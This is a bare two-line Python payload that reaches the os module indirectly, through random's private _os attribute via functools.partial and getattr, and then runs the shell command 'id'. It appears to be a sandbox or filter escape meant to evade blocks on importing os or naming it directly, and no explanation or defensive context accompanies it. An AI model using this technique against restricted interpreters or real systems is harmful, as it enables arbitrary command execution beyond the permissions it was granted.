import functools, random
functools.partial(getattr, random)("_os").system("id")
